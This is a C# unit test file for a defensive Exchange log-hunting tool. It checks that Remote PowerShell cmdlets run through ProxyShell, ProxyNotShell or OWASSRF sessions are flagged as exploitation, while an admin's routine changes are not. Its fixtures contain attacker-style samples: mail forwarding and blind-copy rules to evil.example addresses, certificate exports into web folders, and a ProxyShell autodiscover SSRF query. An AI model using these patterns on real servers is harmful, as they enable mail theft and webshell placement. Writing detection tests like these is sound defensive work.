using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using HafniumTools.Audit;
using HafniumTools.Builds;
using HafniumTools.Logs;
using HafniumTools.Logs.Waves;
using HafniumTools.Model;
using Xunit;
using static HafniumTools.Tests.Logs.LogTestSupport;

namespace HafniumTools.Tests.Waves;

/// <summary>
/// Mail-flow and certificate cmdlets in the Remote PowerShell cmdlet log and MSExchange Management events: context
/// alone, exploitation (in the session's campaign) when the same server's logs show a session that came through the
/// SSRF just before; a certificate request or export written into a web path is exploitation on its own.
/// Fixtures/Waves/EXCH08 holds an admin's day, a ProxyShell token session, a ProxyNotShell session and an OWASSRF one.
/// </summary>
public class ProxiedSessionCmdletTests
{
    private static readonly string Root = Path.Combine(AppContext.BaseDirectory, "Fixtures", "Waves", "EXCH08");
    private static readonly Lazy<HuntResult> Server = new(() => Hunt([Root]));

    private static string[] Matches(string file) =>
        Server.Value.Findings.Where(f => Path.GetFileName(f.Path) == file).OrderBy(f => f.LineNumber)
            .Select(f => f.LineNumber + " " + f.RuleId + " " + f.Verdict + " " + f.Campaign).ToArray();

    [Fact]
    public void Cmdlets_run_in_a_proxied_session_are_exploitation_in_the_sessions_campaign()
    {
        Assert.Equal(["7 HT-RPS-122 Exploitation ProxyShell", "8 HT-RPS-103 Exploitation ProxyShell"], Matches("Rps_Cmdlet_2021081309-1.LOG"));
        Assert.Equal(["7 HT-RPS-123 Exploitation ProxyNotShell"], Matches("Rps_Cmdlet_2022100110-1.LOG"));
        Assert.Equal(
            [
                "7 HT-RPS-120 Context ProxyShell", "8 HT-RPS-121 Context ProxyShell",
                "10 HT-RPS-124 Exploitation OWASSRF", "11 HT-RPS-124 Exploitation OWASSRF", "12 HT-RPS-127 Exploitation OWASSRF",
                "13 HT-RPS-128 Context ProxyShell", "14 HT-RPS-120 Context ProxyShell",
            ],
            Matches("Rps_Cmdlet_2022122009-1.LOG"));
    }

    [Fact]
    public void Management_events_are_weighed_against_the_same_servers_sessions()
    {
        Assert.Equal(
            ["1 HT-MGT-020 Context ProxyShell", "2 HT-MGT-021 Context ProxyShell", "3 HT-MGT-024 Exploitation OWASSRF", "4 HT-MGT-003 Exploitation ProxyShell"],
            Matches("MSExchangeManagement.xml"));
    }

    [Fact]
    public void The_session_is_recognised_from_the_explicit_logon_address_whatever_client_it_names()
    {
        var session = Assert.Single(Server.Value.Findings, f => Path.GetFileName(f.Path) == "Rps_Http_2022100110-1.LOG");
        Assert.Equal("HT-RPS-002", session.RuleId);
        Assert.Equal("Microsoft WinRM Client", session.UserAgent);
        Assert.DoesNotContain(Server.Value.Findings, f => Path.GetFileName(f.Path) == "Rps_Http_2022122009-1.LOG" && f.LineNumber == 7);
    }

    [Fact]
    public void A_promoted_cmdlet_names_the_session_it_ran_in_and_carries_that_campaigns_cves()
    {
        var rule = Server.Value.Findings.Single(f => f.RuleId == "HT-RPS-124" && f.Operation == "New-TransportRule");
        Assert.Equal(["CVE-2022-41080", "CVE-2022-41082"], rule.Cve);
        Assert.Equal(AttackStage.ConfigurationChanged, rule.Stage);
        Assert.Equal(Severity.High, rule.Severity);
        Assert.Contains("HT-RPS-003 Exploitation at 2022-12-20 11:00:02Z", rule.Detail, StringComparison.Ordinal);
        Assert.Contains("archive@evil.example", rule.Detail, StringComparison.Ordinal);
        Assert.Contains("Chrome/105.0.5195.54", rule.Detail, StringComparison.Ordinal);
        var forward = Server.Value.Findings.Single(f => f.RuleId == "HT-RPS-124" && f.Operation == "Set-Mailbox");
        Assert.Contains("smtp:ceo@evil.example", forward.Detail, StringComparison.Ordinal);
        var proxyShell = Server.Value.Findings.Single(f => f.RuleId == "HT-RPS-122");
        Assert.Equal(["CVE-2021-34473", "CVE-2021-34523"], proxyShell.Cve);
    }

    [Fact]
    public void Admin_mail_flow_and_certificate_changes_stay_below_medium()
    {
        var admin = Server.Value.Findings.Where(f => f.Timestamp < new DateTimeOffset(2022, 12, 20, 10, 0, 0, TimeSpan.Zero) && f.Timestamp > new DateTimeOffset(2022, 12, 1, 0, 0, 0, TimeSpan.Zero)).ToList();
        Assert.NotEmpty(admin);
        Assert.All(admin, f => Assert.True(f.Severity < Severity.Medium && f.Verdict == Verdict.Context, f.ToString()));
        Assert.All(admin, f => Assert.Contains("Routine for an admin", f.Detail, StringComparison.Ordinal));

        // The -500 account with no client application, a day after the attack: still only context.
        var late = Assert.Single(Server.Value.Findings, f => f.Timestamp?.Day == 21);
        Assert.Equal(Verdict.Context, late.Verdict);

        // Forwarding inside the organisation is no mail-flow change worth a line.
        Assert.DoesNotContain(Server.Value.Findings, f => f.Detail?.Contains("ann.b@contoso.com", StringComparison.Ordinal) == true);
    }

    [Fact]
    public void The_audit_counts_the_promoted_cmdlets_in_their_campaigns_and_the_admins_changes_in_none()
    {
        var audit = Assert.Single(AuditRun.Run(new AuditRequest { Roots = [Root] }, BuildCatalog.Embedded, new HuntResult(), default));
        var owassrf = Assert.Single(audit.Campaigns, c => c.Campaign == Campaign.OWASSRF);
        Assert.Equal(AuditStatus.Exploited, owassrf.Status);
        Assert.Contains("HT-RPS-124", owassrf.DecidingRuleIds);
        Assert.Contains("HT-MGT-024", owassrf.DecidingRuleIds);
        Assert.Contains(audit.Findings, f => f.RuleId == "HT-RPS-123" && f.Campaign == Campaign.ProxyNotShell);
        Assert.DoesNotContain(audit.Findings, f => f.RuleId is "HT-RPS-120" or "HT-RPS-121" or "HT-MGT-020" or "HT-MGT-021" && f.Verdict != Verdict.Context);
    }

    [Theory]
    [InlineData("HT-RPS-122", Campaign.ProxyShell)]
    [InlineData("HT-RPS-124", Campaign.OWASSRF)]
    public void The_campaign_filter_applies_to_what_a_cmdlet_became(string rule, Campaign campaign)
    {
        var selected = Hunt(new LogHuntRequest { Paths = [Root], Campaigns = [campaign] });
        Assert.Contains(selected.Findings, f => f.RuleId == rule);
        Assert.All(selected.Findings, f => Assert.Equal(campaign, f.Campaign));

        // Selecting only the promoted rule still finds it: the sessions are read even when not reported.
        var byRule = Hunt(new LogHuntRequest { Paths = [Root], RuleIds = [rule] });
        Assert.NotEmpty(byRule.Findings);
        Assert.All(byRule.Findings, f => Assert.Equal(rule, f.RuleId));
    }

    [Fact]
    public void Without_the_session_log_the_same_cmdlets_are_context()
    {
        var cmdlets = Hunt(new LogHuntRequest { Paths = [Root], Kinds = [LogKind.RpsCmdlet] });
        Assert.Contains(cmdlets.Findings, f => f.RuleId == "HT-RPS-103");
        Assert.All(cmdlets.Findings.Where(f => f.RuleId != "HT-RPS-103"), f => Assert.True(f.Severity < Severity.Medium, f.ToString()));
    }

    [Theory]
    [InlineData(-31, false)]
    [InlineData(-29, true)]
    [InlineData(0, true)]
    [InlineData(4, true)]
    [InlineData(6, false)]
    public void A_session_counts_only_within_its_window(int minutesFromCmdlet, bool promoted)
    {
        var cmdletTime = new DateTime(2022, 12, 20, 11, 0, 0, DateTimeKind.Utc);
        string dir = TempDir();
        try
        {
            WriteServer(dir, "EXCH09", cmdletTime.AddMinutes(minutesFromCmdlet), "python-requests/2.28.1", cmdletTime, "Set-TransportConfig", "-ExternalPostmasterAddress \"pm@evil.example\"", "Success");
            var finding = Assert.Single(Hunt([dir]).Findings, f => f.Category == FindingCategory.RemotePowerShell && f.Operation == "Set-TransportConfig");
            Assert.Equal(promoted ? "HT-RPS-123" : "HT-RPS-120", finding.RuleId);
        }
        finally
        {
            Directory.Delete(dir, true);
        }
    }

    [Fact]
    public void A_session_on_another_server_does_not_count()
    {
        var time = new DateTime(2022, 12, 20, 11, 0, 0, DateTimeKind.Utc);
        string dir = TempDir();
        try
        {
            WriteServer(Path.Combine(dir, "EXCH09"), "EXCH09", time, "python-requests/2.28.1", null, null, null, null);
            WriteServer(Path.Combine(dir, "EXCH10"), "EXCH10", null, null, time.AddSeconds(5), "New-SendConnector", "-Name \"x\" -SmartHosts \"relay.evil.example\"", "Success");
            var hunt = Hunt([Path.Combine(dir, "EXCH09"), Path.Combine(dir, "EXCH10")]);
            Assert.Equal("HT-RPS-120", Assert.Single(hunt.Findings, f => f.Operation == "New-SendConnector").RuleId);
        }
        finally
        {
            Directory.Delete(dir, true);
        }
    }

    [Fact]
    public void A_proxied_client_that_names_no_ssrf_takes_the_campaign_the_front_end_shows()
    {
        var time = new DateTime(2022, 12, 20, 11, 0, 0, DateTimeKind.Utc);
        string dir = TempDir();
        try
        {
            WriteServer(dir, "EXCH09", time.AddSeconds(-2), "python-requests/2.28.1", time.AddSeconds(3), "Set-TransportRule", "-Identity \"Archive\" -BlindCopyTo \"a@evil.example\"", "Success");
            string iis = Path.Combine(dir, "inetpub", "logs", "LogFiles", "W3SVC1", "u_ex221220.log");
            Directory.CreateDirectory(Path.GetDirectoryName(iis)!);
            File.WriteAllText(
                iis,
                "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2022-12-20 10:59:00\r\n"
                + "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken s-computername\r\n"
                + "2022-12-20 10:59:57 10.0.0.8 POST /owa/jdoe%40contoso.com/powershell - 443 jdoe@contoso.com 198.51.100.23 python-requests/2.28.1 - 200 0 0 120 EXCH09\r\n");
            var hunt = Hunt([dir]);
            Assert.Contains(hunt.Findings, f => f.RuleId == "HT-RPS-002");
            Assert.Contains(hunt.Findings, f => f.RuleId == "HT-OWS-001");
            var rule = Assert.Single(hunt.Findings, f => f.Operation == "Set-TransportRule");
            Assert.Equal("HT-RPS-124", rule.RuleId);
            Assert.Equal(Campaign.OWASSRF, rule.Campaign);
        }
        finally
        {
            Directory.Delete(dir, true);
        }
    }

    /// <summary>Quote styles, case, parameter order and the colon form: the same judgement.</summary>
    [Fact]
    public void Mutated_cmdlet_rows_are_judged_alike()
    {
        var random = new Random(1313);
        var cases = new (string Cmdlet, (string Name, string Value)[] Parameters, string Promoted)[]
        {
            ("New-TransportRule", [("Name", "Archive"), ("BlindCopyTo", "archive@evil.example")], "HT-RPS-122"),
            ("Set-Mailbox", [("Identity", "ceo@contoso.com"), ("ForwardingSmtpAddress", "smtp:ceo@evil.example")], "HT-RPS-122"),
            ("New-InboxRule", [("Mailbox", "ceo@contoso.com"), ("Name", "r"), ("RedirectTo", "x@evil.example")], "HT-RPS-122"),
            ("Enable-ExchangeCertificate", [("Thumbprint", "5113AE0233A72FCCB75E1A4C4B5A3C1F0E2D9A77"), ("Services", "IIS,SMTP")], "HT-RPS-125"),
            ("Set-AuthConfig", [("NewCertificateThumbprint", "5113AE0233A72FCCB75E1A4C4B5A3C1F0E2D9A77"), ("NewCertificateEffectiveDate", "12/20/2022")], "HT-RPS-125"),
            ("New-ExchangeCertificate", [("GenerateRequest", "True"), ("RequestFile", @"\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\a.aspx")], "HT-RPS-103"),
            ("Export-ExchangeCertificate", [("Thumbprint", "5113AE0233A72FCCB75E1A4C4B5A3C1F0E2D9A77"), ("FileName", @"C:\inetpub\wwwroot\aspnet_client\k.pfx")], "HT-RPS-105"),
        };
        var time = new DateTime(2021, 8, 13, 9, 20, 0, DateTimeKind.Utc);
        foreach (var (cmdlet, parameters, promoted) in cases)
        {
            for (int round = 0; round < 6; round++)
            {
                string name = Mutate(cmdlet, random);
                string text = string.Join(" ", parameters.OrderBy(_ => random.Next()).Select(p => Parameter(p.Name, p.Value, random)));
                string dir = TempDir();
                try
                {
                    WriteServer(dir, "EXCH09", time.AddSeconds(-3), null, time, name, text, "Success", token: true);
                    var finding = Assert.Single(Hunt([dir]).Findings, f => f.Operation == name);
                    Assert.True(promoted == finding.RuleId, name + " " + text + " gave " + finding.RuleId);
                }
                finally
                {
                    Directory.Delete(dir, true);
                }
            }
        }
    }

    [Theory]
    [InlineData(@"\\localhost\c$\inetpub\wwwroot\aspnet_client\x.aspx", true)]
    [InlineData(@"C:\ProgramData\req\x.ASPX.req", true)]
    [InlineData(@"C:\ProgramData\req\x.ashx.req", true)]
    [InlineData(@"C:\ProgramData\req\x.aspx::$DATA", true)]
    [InlineData(@"C:\ProgramData\req\x.aspx. ", true)]
    [InlineData(@"'C:/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/x.req'", true)]
    [InlineData(@"\\fs01\certs\mail.contoso.com.req", false)]
    [InlineData(@"C:\certs\mail.req", false)]
    public void A_request_file_is_a_web_path_by_folder_or_page_name(string path, bool web) =>
        Assert.Equal(web, ExchangeCmdletJudge.IsWebPath(path));

    [Fact]
    public void Ordinary_cmdlets_and_internal_forwarding_are_not_judged()
    {
        var rules = ExchangeCmdletRules.RemotePowerShell;
        Assert.Null(ExchangeCmdletJudge.Judge(rules, "Get-TransportRule", Split("-Identity \"x\""), true));
        Assert.Null(ExchangeCmdletJudge.Judge(rules, "Set-Mailbox", Split("-Identity \"a@contoso.com\" -ForwardingSmtpAddress \"b@contoso.com\""), true));
        Assert.Null(ExchangeCmdletJudge.Judge(rules, "New-InboxRule", Split("-Mailbox \"a\" -Name \"r\" -MoveToFolder \"a:\\Archive\""), true));
        Assert.Null(ExchangeCmdletJudge.Judge(rules, "Set-Mailbox", Split("-Identity \"a\" -ForwardingSmtpAddress $null"), true));
        Assert.Equal(rules.ChangeFailed, ExchangeCmdletJudge.Judge(rules, "Set-TransportRule", Split("-Identity \"x\""), false)!.Value.Rule);
    }

    [Fact]
    public void Every_context_rule_has_an_exploitation_rule_per_later_campaign_and_all_are_registered()
    {
        var all = LogRegistry.Module.AllRules().ToDictionary(r => r.Id);
        foreach (var rules in new[] { ExchangeCmdletRules.RemotePowerShell, ExchangeCmdletRules.ManagementEvents })
        {
            foreach (var context in new[] { rules.MailFlowChanged, rules.CertificateChanged })
            {
                Assert.Equal(Verdict.Context, context.Verdict);
                Assert.True(context.Severity < Severity.Medium);
                Assert.Equal([Campaign.ProxyShell, Campaign.ProxyNotShell, Campaign.OWASSRF], context.InProxiedSession!.Keys.OrderBy(c => c));
                Assert.All(context.InProxiedSession.Values, r =>
                {
                    Assert.Equal(Verdict.Exploitation, r.Verdict);
                    Assert.Same(r, all[r.Id]);
                });
            }
        }
    }

    private static IReadOnlyList<KeyValuePair<string, string>> Split(string text) => HafniumTools.Logs.EventLogs.CmdletLogEntry.SplitParameters(text);

    private static string Mutate(string cmdlet, Random random) => random.Next(3) switch
    {
        0 => cmdlet.ToUpperInvariant(),
        1 => cmdlet.ToLowerInvariant(),
        _ => cmdlet,
    };

    private static string Parameter(string name, string value, Random random)
    {
        string shown = random.Next(2) == 0 ? name : name.ToLowerInvariant();
        string quoted = random.Next(3) switch
        {
            0 => "\"" + value + "\"",
            1 => "'" + value + "'",
            _ => value.Contains(' ', StringComparison.Ordinal) || value.Contains(',', StringComparison.Ordinal) ? "\"" + value + "\"" : value,
        };
        return "-" + shown + (random.Next(4) == 0 ? ":" : " ") + quoted;
    }

    // One server's Remote PowerShell logs: a session row (when given) and a cmdlet row (when given).
    private static void WriteServer(string dir, string server, DateTime? sessionTime, string? client, DateTime? cmdletTime, string? cmdlet, string? parameters, string? result, bool token = false)
    {
        string logging = Path.Combine(dir, "Logging", "CmdletInfra", "Powershell-Proxy");
        if (sessionTime is DateTime session)
        {
            var fields = LogFieldMap.RpsHttpFields;
            string row = string.Join(",", fields.Select(n => n switch
            {
                "DateTime" => session.ToString("yyyy-MM-ddTHH:mm:ss.fffZ", System.Globalization.CultureInfo.InvariantCulture),
                "UrlStem" => "/powershell",
                "HttpStatus" => "200",
                "ServerHostName" => server,
                "AuthenticatedUser" => "Administrator@contoso.com",
                "ClientIpAddress" => "198.51.100.23",
                "ClientInfo" => client ?? "Python PSRP Client",
                "UrlQuery" => token ? "?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.com" : "?",
                _ => string.Empty,
            }));
            Write(Path.Combine(logging, "Http", "Rps_Http_2022122011-1.LOG"), fields, "Rps Http Logs", row);
        }

        if (cmdletTime is DateTime time)
        {
            var fields = LogFieldMap.RpsCmdletFields;
            string row = string.Join(",", fields.Select(n => n switch
            {
                "DateTime" => time.ToString("yyyy-MM-ddTHH:mm:ss.fffZ", System.Globalization.CultureInfo.InvariantCulture),
                "ServerHostName" => server,
                "ProcessName" => "w3wp#MSExchangePowerShellAppPool",
                "AuthenticatedUser" => "Administrator",
                "ExecutingUserSid" => "S-1-5-21-1-2-3-500",
                "Cmdlet" => cmdlet!,
                "Parameters" => "\"" + parameters!.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"",
                "ExecutionResult" => result!,
                _ => string.Empty,
            }));
            Write(Path.Combine(logging, "Cmdlet", "Rps_Cmdlet_2022122011-1.LOG"), fields, "Rps Cmdlet Logs", row);
        }
    }

    private static void Write(string path, string[] fields, string logType, string row)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        string header = string.Join(",", fields);
        File.WriteAllText(path, header + "\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.02.1118.007\r\n#Log-type: " + logType + "\r\n#Date: 2022-12-20T11:00:00.000Z\r\n#Fields: " + header + "\r\n" + row + "\r\n");
    }
}
